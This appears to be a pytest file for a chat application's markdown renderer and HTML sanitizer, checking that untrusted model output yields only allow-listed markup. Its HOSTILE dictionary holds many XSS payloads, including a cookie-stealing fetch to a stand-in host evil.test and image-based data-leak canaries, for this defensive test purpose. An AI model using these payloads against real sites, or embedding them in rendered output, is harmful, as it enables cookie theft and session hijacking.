"""Model output is untrusted: whatever it says, only allow-listed markup reaches the page.

The allow-list below is written out by hand on purpose: it is the test's own
idea of what is safe, not a copy of the renderer's configuration.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pygments.token import STANDARD_TYPES

from chatgrid.chat.render import render_markdown, sanitize_html

STATIC = Path(__file__).resolve().parents[2] / "src" / "chatgrid" / "web" / "static"

ALIGN = {"align-left", "align-center", "align-right"}
TOKEN_CLASSES = {name for name in STANDARD_TYPES.values() if name}
PLAIN_TAGS = {
    "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th",
    "thead", "tr", "ul",
}  # fmt: skip
ALLOWED: dict[str, set[str]] = {tag: set() for tag in PLAIN_TAGS}
ALLOWED["a"] = {"href", "title", "rel", "target"}
ALLOWED["ol"] = {"start"}
for _tag in ("code", "div", "span", "td", "th"):
    ALLOWED[_tag].add("class")
ALLOWED_CLASSES = {
    "code": {"highlight"},
    "div": {"code-block"},
    "span": {"code-lang", *TOKEN_CLASSES},
    "td": ALIGN,
    "th": ALIGN,
}
VOID = {"br", "hr"}
SAFE_HREF = re.compile(r"(?:https?://|mailto:)[^\s\"'<>`]*\Z")


class _Audit(HTMLParser):
    """Every tag, attribute and non-element construct of a rendered fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.tags.append((tag, values))
        if tag not in ALLOWED:
            self.problems.append(f"tag <{tag}>")
            return
        for name, value in values.items():
            if name not in ALLOWED[tag]:
                self.problems.append(f"attribute {name}= on <{tag}>")
            elif name == "class" and not set(value.split()) <= ALLOWED_CLASSES[tag]:
                self.problems.append(f"class {value!r} on <{tag}>")
        if tag == "a":
            href = values.get("href", "")
            if href and not SAFE_HREF.match(href):
                self.problems.append(f"href {href!r}")
            if values.get("rel") != "noopener noreferrer nofollow":
                self.problems.append(f"rel {values.get('rel')!r}")
            if values.get("target") != "_blank":
                self.problems.append(f"target {values.get('target')!r}")
        if tag not in VOID:
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in VOID and self._open:
            self._open.pop()

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open.pop() != tag:
            self.problems.append(f"unbalanced </{tag}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.problems.append("processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.problems.append("unknown declaration")


def audit(markdown: str) -> tuple[str, _Audit]:
    """Render, then fail the test if anything outside the allow-list is in the output."""
    html = render_markdown(markdown)
    parser = _Audit()
    parser.feed(html)
    parser.close()
    if parser._open:
        parser.problems.append(f"unclosed {parser._open}")
    assert parser.problems == [], (markdown[:200], html[:2000])
    return html, parser


HOSTILE = {
    "script tag": "<script>alert(1)</script>",
    "script in heading": "# Title <script>fetch('//evil.test/?'+document.cookie)</script>",
    "img onerror": '<img src=x onerror="alert(1)">',
    "svg onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "iframe": '<iframe src="https://evil.test" srcdoc="<script>alert(1)</script>"></iframe>',
    "style": "<style>body{background:url(https://evil.test/leak)}</style>",
    "style attribute": '<p style="position:fixed;inset:0">cover</p>',
    "form and input": '<form action="https://evil.test"><input autofocus onfocus=x()></form>',
    "object embed": '<object data="x.swf"></object><embed src="x.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    "base tag": '<base href="https://evil.test/">',
    "link stylesheet": '<link rel=stylesheet href="https://evil.test/x.css">',
    "comment": "<!-- <script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "raw html anchor": '<a href="javascript:alert(1)">click</a>',
    "raw html anchor entity": '<a href="jav&#x61;script:alert(1)">click</a>',
    "markdown javascript link": "[click](javascript:alert(1))",
    "markdown javascript mixed case": "[click](JaVaScRiPt:alert(1))",
    "markdown javascript entity": "[click](jav&#x61;script:alert(1))",
    "markdown javascript percent": "[click](%6Aavascript:alert(1))",
    "markdown javascript tab": "[click](<java\tscript:alert(1)>)",
    "markdown javascript zero width": "[click](java\u200bscript:alert(1))",
    "markdown javascript leading space": "[click](< javascript:alert(1)>)",
    "vbscript": "[click](vbscript:msgbox(1))",
    "data url link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data url image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "autolink javascript": "<javascript:alert(1)>",
    "autolink data": "<data:text/html,<script>alert(1)</script>>",
    "reference javascript": "[click][r]\n\n[r]: javascript:alert(1)",
    "reference image remote": "![logo][r]\n\n[r]: https://evil.test/pixel.gif",
    "relative link": "[admin](/admin/delete?all=1)",
    "protocol relative link": "[cdn](//evil.test/x)",
    "remote markdown image": "![secret](https://evil.test/pixel.gif?c=SECRET-CANARY)",
    "image inside link": "[![alt](https://evil.test/a.png)](https://example.com/)",
    "image with title": '![a](https://evil.test/a.png "t")',
    "quote breaking href": '[x](https://example.com/" onmouseover="alert(1))',
    "quote breaking angle href": '[x](<https://example.com/"onmouseover="alert(1)>)',
    "quote breaking title": "[x](https://example.com 'a\" onclick=\"alert(1)')",
    "single quote title": "[x](https://example.com \"a' onclick='alert(1)\")",
    "backtick attribute": "<p title=`x` onclick=`alert(1)`>",
    "fullwidth brackets": "＜script＞alert(1)＜/script＞",
    "bidi override": "‮[click](https://example.com/‮gpj.exe)",
    "null byte": "<scr\x00ipt>alert(1)</script>[x](java\x00script:alert(1))",
    "html entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "double encoded": "&amp;lt;script&amp;gt;alert(1)",
    "bold around html": "**<img src=x onerror=alert(1)>**",
    "html around markdown": "<div onclick=alert(1)>\n\n**bold** [x](javascript:alert(1))\n\n</div>",
    "blockquote html": "> <script>alert(1)</script>\n> [x](javascript:1)",
    "list html": "- <iframe src=//evil.test>\n- [ok](https://example.com)",
    "table html": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
    "code span html": "`<script>alert(1)</script>`",
    "fence language injection": '```"><script>alert(1)</script>\nx\n```',
    "fence language class": '```python" onclick="alert(1)\nprint(1)\n```',
    "fence html content": "```html\n<script>alert(1)</script>\n```",
    "mailto with script": "[m](mailto:a@b.test?body=<script>alert(1)</script>)",
    "html block": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "math mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "deep nesting": ">" * 5_000 + " deep",
    "many brackets": "[" * 20_000 + "x" + "](" * 5_000,
    "many emphasis": "*_" * 20_000,
    "many backticks": "`" * 30_000,
}


@pytest.mark.parametrize("markdown", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_output_leaves_only_allow_listed_markup(markdown: str) -> None:
    html, parsed = audit(markdown)
    for tag, attrs in parsed.tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
    lowered = html.lower()
    for needle in ("<script", "<img", "<svg", "<iframe", "<style", "<form", "<input", "<meta"):
        assert needle not in lowered


def test_raw_html_from_the_model_is_shown_as_text() -> None:
    html, parsed = audit('Look: <img src=x onerror="alert(1)"> and <b>bold?</b>')
    assert "&lt;img src=x onerror=" in html
    assert "<b>bold?</b>" in "".join(parsed.text)
    assert [tag for tag, _ in parsed.tags] == ["p"]


@pytest.mark.parametrize(
    "markdown",
    [
        "![secret](https://evil.test/pixel.gif?c=SECRET-CANARY)",
        "![secret][ref]\n\n[ref]: https://evil.test/pixel.gif?c=SECRET-CANARY",
        "[![secret](https://evil.test/pixel.gif?c=SECRET-CANARY)](https://example.com)",
    ],
)
def test_an_image_becomes_its_alt_text_and_its_url_never_reaches_the_page(markdown: str) -> None:
    html, parsed = audit(markdown)
    assert "evil.test" not in html
    assert "SECRET-CANARY" not in html
    assert "[image: secret]" in "".join(parsed.text)


def test_an_image_without_alt_text_is_a_placeholder() -> None:
    html, _ = audit("![](https://evil.test/a.png)")
    assert html == "<p>[image]</p>\n"


@pytest.mark.parametrize(
    "markdown",
    [
        "[click](javascript:alert(1))",
        "[click]()",
        "[click](<>)",
        "[click](#fragment)",
        "[click](/relative/path)",
        "[click](//evil.test/x)",
        "[click](ftp://files.example.com/x)",
        "[click](data:text/html,hi)",
        "<javascript:alert(1)>",
    ],
)
def test_a_link_to_anything_but_http_https_mailto_loses_its_link(markdown: str) -> None:
    _, parsed = audit(markdown)
    assert [tag for tag, _ in parsed.tags if tag == "a"] == []
    assert "click" in "".join(parsed.text) or "javascript" in "".join(parsed.text)


def test_links_open_in_a_new_tab_without_referrer_or_opener() -> None:
    html, parsed = audit(
        'See [docs](https://example.com/a?b=1&c=2 "Docs"), <http://example.org> '
        "and <team@example.com>."
    )
    links = [attrs for tag, attrs in parsed.tags if tag == "a"]
    assert [link["href"] for link in links] == [
        "https://example.com/a?b=1&c=2",
        "http://example.org",
        "mailto:team@example.com",
    ]
    for link in links:
        assert link["rel"] == "noopener noreferrer nofollow"
        assert link["target"] == "_blank"
    assert links[0]["title"] == "Docs"
    assert "&amp;c=2" in html


def test_an_attribute_breaking_quote_stays_inside_the_href() -> None:
    _, parsed = audit('[x](https://example.com/" onmouseover="alert(1))')
    for _, attrs in parsed.tags:
        assert "onmouseover" not in attrs


def test_a_fenced_block_is_highlighted_by_its_language_with_a_label() -> None:
    html, parsed = audit("```python\ndef add(a, b):\n    return a + b  # sum\n```")
    assert html.startswith('<div class="code-block"><span class="code-lang">Python</span>')
    assert '<pre><code class="highlight">' in html
    assert '<span class="k">def</span>' in html
    assert '<span class="nf">add</span>' in html
    assert '<span class="c1"># sum</span>' in html
    assert "def add(a, b):\n    return a + b  # sum\n" in "".join(parsed.text)


def test_an_unknown_language_is_plain_code_with_its_name() -> None:
    html, parsed = audit("```no-such-lang\n<b>x</b> & y\n```")
    assert '<span class="code-lang">no-such-lang</span>' in html
    assert '<code class="highlight">&lt;b&gt;x&lt;/b&gt; &amp; y\n</code>' in html
    assert [tag for tag, _ in parsed.tags] == ["div", "span", "pre", "code"]


def test_a_fence_without_language_has_no_label() -> None:
    html, _ = audit("```\nplain\n```")
    assert (
        html == '<div class="code-block"><pre><code class="highlight">plain\n</code></pre></div>\n'
    )


def test_an_unclosed_fence_mid_stream_is_already_a_code_block() -> None:
    html, parsed = audit("Here is the fix:\n\n```python\nimport os\nprint(os.getcwd())\n")
    assert "<p>Here is the fix:</p>" in html
    assert '<div class="code-block"><span class="code-lang">Python</span>' in html
    assert '<span class="kn">import</span>' in html
    assert html.rstrip().endswith("</code></pre></div>")
    assert "print(os.getcwd())" in "".join(parsed.text)


SAMPLE_ANSWER = """\
## Plan

1. Read the **file** with `open()` ~~quickly~~.
2. See [the docs](https://docs.python.org/3/) — or ![a diagram](https://evil.test/d.png).

| Step | Cost (µ$) | Note |
|:-----|----------:|:----:|
| read | 1200 | <b>raw</b> |

```python
with open("a.txt") as f:
    print(f.read())
```

> Quote with <script>alert(1)</script>
"""


def test_every_prefix_of_a_streamed_answer_renders_safe_and_balanced() -> None:
    for end in range(1, len(SAMPLE_ANSWER) + 1):
        audit(SAMPLE_ANSWER[:end])


def test_tables_lists_and_strikethrough_render() -> None:
    html, parsed = audit(SAMPLE_ANSWER)
    tags = [tag for tag, _ in parsed.tags]
    for tag in ("h2", "ol", "li", "strong", "code", "s", "table", "thead", "tbody", "th", "td"):
        assert tag in tags, tag
    assert '<th class="align-left">Step</th>' in html
    assert '<th class="align-right">Cost (µ$)</th>' in html
    assert '<td class="align-center">&lt;b&gt;raw&lt;/b&gt;</td>' in html
    assert "style=" not in html
    assert "[image: a diagram]" in html
    assert "evil.test" not in html


def test_an_ordered_list_keeps_its_start_number() -> None:
    html, _ = audit("3. three\n4. four")
    assert html.startswith('<ol start="3">')


def test_a_200_kb_answer_renders_whole_and_safe() -> None:
    block = SAMPLE_ANSWER + "\n" + "\n\n".join(HOSTILE.values())[:3000] + "\n\n"
    text = (block * (200_000 // len(block) + 1))[:200_000]
    html, parsed = audit(text)
    assert len(text) == 200_000
    assert html.count('<div class="code-block">') >= 20
    assert "[image: a diagram]" in "".join(parsed.text)
    assert not any("src" in attrs for _, attrs in parsed.tags)


def test_the_highlight_stylesheet_covers_every_class_the_renderer_emits() -> None:
    css = (STATIC / "highlight.css").read_text()
    assert "python -m chatgrid.chat.render > src/chatgrid/web/static/highlight.css" in css
    for selector in (".code-block", ".code-lang", ".highlight", ".highlight .k", ".highlight .c1"):
        assert selector + " " in css or selector + "{" in css, selector
    for align in ALIGN:
        assert f"td.{align}" in css


_FRAGMENTS = [
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "<svg onload=x>", "<iframe>",
    "<style>", "<a href='javascript:x'>", "javascript:", "data:", "[", "]", "(", ")", "![",
    "](", "<", ">", "\"", "'", "`", "```", "```python\n", "\n", "\n\n", "|", "|---|", "*",
    "_", "~~", "#", "> ", "- ", "1. ", "&", "&#x6A;", "&lt;", "http://", "https://e.test",
    "mailto:", "onerror=", "style=", "\u202e", "\u200b", "\x00", "\\",
]  # fmt: skip


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.one_of(st.text(max_size=20), st.sampled_from(_FRAGMENTS)), max_size=40).map("".join)
)
def test_any_text_renders_to_allow_listed_markup_only(markdown: str) -> None:
    audit(markdown)


@pytest.mark.parametrize("markdown", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_sanitizer_alone_holds_even_if_raw_html_got_through(markdown: str) -> None:
    """Defence in depth: render with raw HTML *on*, then sanitize; still only allow-listed."""
    raw = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)
    parser = _Audit()
    parser.feed(sanitize_html(raw))
    parser.close()
    assert parser.problems == [], (markdown[:200], raw[:500])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.one_of(st.text(max_size=20), st.sampled_from(_FRAGMENTS)), max_size=40).map("".join)
)
def test_any_html_sanitizes_to_allow_listed_markup_only(html: str) -> None:
    parser = _Audit()
    parser.feed(sanitize_html(html))
    parser.close()
    assert parser.problems == []
